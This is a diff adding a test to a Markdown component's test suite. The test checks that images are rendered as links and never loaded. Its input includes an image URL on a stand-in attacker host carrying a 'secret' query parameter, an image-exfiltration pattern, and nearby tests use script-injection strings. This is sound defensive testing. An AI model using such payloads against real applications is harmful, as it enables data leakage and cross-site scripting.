@@ -16,6 +16,29 @@ describe("Markdown", () => {
     expect(container).toHaveTextContent("<script>alert(2)</script>");
   });
 
+  it("never loads an image: it becomes a link showing its alt text or URL", () => {
+    const { container } = render(
+      <Markdown
+        text={
+          "![](https://evil.example/p?d=secret) and ![chart](https://example.com/c.png) " +
+          "and [![inner](https://example.com/i.png)](https://example.com/page)"
+        }
+      />,
+    );
+    expect(container.querySelector("img")).toBeNull();
+    const bare = screen.getByRole("link", { name: "https://evil.example/p?d=secret" });
+    expect(bare).toHaveAttribute("href", "https://evil.example/p?d=secret");
+    expect(bare).toHaveAttribute("target", "_blank");
+    expect(bare).toHaveAttribute("rel", "noopener noreferrer");
+    expect(screen.getByRole("link", { name: "chart" })).toHaveAttribute(
+      "href",
+      "https://example.com/c.png",
+    );
+    const outer = screen.getByRole("link", { name: "inner" });
+    expect(outer).toHaveAttribute("href", "https://example.com/page");
+    expect(outer.querySelector("a")).toBeNull();
+  });
+
   it("drops script links but keeps ordinary ones, opening in a new tab", () => {
     render(<Markdown text={"[bad](javascript:alert(1)) and [docs](https://example.com/docs)"} />);
     expect(screen.getByText("bad").closest("a")?.getAttribute("href") ?? "").not.toContain(
